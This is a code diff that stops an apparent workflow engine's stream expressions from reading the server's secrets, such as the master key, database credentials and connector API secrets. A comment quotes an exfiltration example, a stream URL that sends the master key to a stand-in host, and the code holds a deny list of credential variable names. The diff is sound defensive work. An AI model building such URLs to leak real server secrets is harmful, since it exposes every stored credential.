@@ -9,6 +9,8 @@
  * delivery then rejects with ExecutionInterruptedError and `record.stream` stays unset, so
  * the resumed run delivers it (same message id, so receivers de-duplicate).
  */
+import { connectionEnvName } from '../connectors/credentials.js';
+import type { ConnectorRegistry } from '../connectors/types.js';
 import { AlloyError, StepError } from '../errors.js';
 import type { CompiledStream } from './compile.js';
 import { ExecutionInterruptedError, toErrorInfo } from './errors.js';
@@ -22,29 +24,42 @@ import type { EngineDeps, ExecutionRecord, StreamDelivery } from './types.js';
 export const STREAM_EVENT_TYPE = 'execution.completed';
 
 /**
- * alloy's own credentials, never workflow data: a released `stream.url` of
- * `https://x.example/?k={{ env.ALLOY_MASTER_KEY }}` sent the key to every stored secret out
- * (and kept it in the record, readable by users) for anyone who could release.
+ * What stream expressions may not read from the server's environment, as `env` or `secrets`:
+ * alloy's own settings and credentials (every `ALLOY_*`: the master key, tokens, the database
+ * URL), libpq's variables (`PG*`) and `DATABASE_URL`, and every connector's connection
+ * variables (an app's API and client secrets: with them webhooks can be forged for every
+ * shop). A released `stream.url` of `https://x.example/?k={{ env.ALLOY_MASTER_KEY }}` sent the
+ * key to every stored secret out, and kept it in the record, for anyone who could release.
  */
-export const RESERVED_ENV: ReadonlySet<string> = new Set([
-  'ALLOY_MASTER_KEY',
-  'ALLOY_NEW_MASTER_KEY',
-  'ALLOY_SERVE_TOKENS',
-  'ALLOY_API_KEY',
-  'ALLOY_TOKEN',
-  'ALLOY_RELAY_TOKEN',
-  'ALLOY_RELAY_TOKENS',
-  'PGPASSWORD',
-]);
+export function isReservedVariable(name: string, connectionVariables: ReadonlySet<string>): boolean {
+  return name.startsWith('ALLOY_') || /^PG[A-Z]+$/.test(name) || name === 'DATABASE_URL' || connectionVariables.has(name);
+}
+
+/** The connection variables of every connector the engine has (made once per registry). */
+const connectionVariablesOf = new WeakMap<ConnectorRegistry, ReadonlySet<string>>();
+function connectionVariables(connectors: ConnectorRegistry | undefined): ReadonlySet<string> {
+  if (!connectors) return new Set();
+  let names = connectionVariablesOf.get(connectors);
+  if (!names) {
+    const all = new Set<string>();
+    for (const app of connectors.names()) {
+      const manifest = connectors.get(app)?.manifest;
+      for (const field of Object.keys(manifest?.connection ?? {})) all.add(connectionEnvName(manifest!, field));
+    }
+    connectionVariablesOf.set(connectors, (names = all));
+  }
+  return names;
+}
 
 const visibleEnv = new WeakMap<object, Record<string, string | undefined>>();
 
-/** The variables stream expressions see: all but RESERVED_ENV (made once per environment object). */
-function streamVariables<T>(vars: Record<string, T>): Record<string, T> {
+/** The variables stream expressions see: all but the reserved ones (made once per environment object). */
+function streamVariables<T>(vars: Record<string, T>, connectors: ConnectorRegistry | undefined): Record<string, T> {
   let out = visibleEnv.get(vars) as Record<string, T> | undefined;
   if (!out) {
+    const reserved = connectionVariables(connectors);
     out = {};
-    for (const [k, v] of Object.entries(vars)) if (!RESERVED_ENV.has(k)) out[k] = v;
+    for (const [k, v] of Object.entries(vars)) if (!isReservedVariable(k, reserved)) out[k] = v;
     visibleEnv.set(vars, out as Record<string, string | undefined>);
   }
   return out;
@@ -102,8 +117,8 @@ export async function deliverStream(
     event: record.event,
     user: { id: record.userId },
     execution: { id: record.id, workflow: record.workflow, startedAt: record.startedAt },
-    env: streamVariables(deps.env ?? {}),
-    secrets: streamVariables(deps.secrets ?? {}),
+    env: streamVariables(deps.env ?? {}, deps.connectors),
+    secrets: streamVariables(deps.secrets ?? {}, deps.connectors),
   };
   let url = '';
   let attempts = 0;
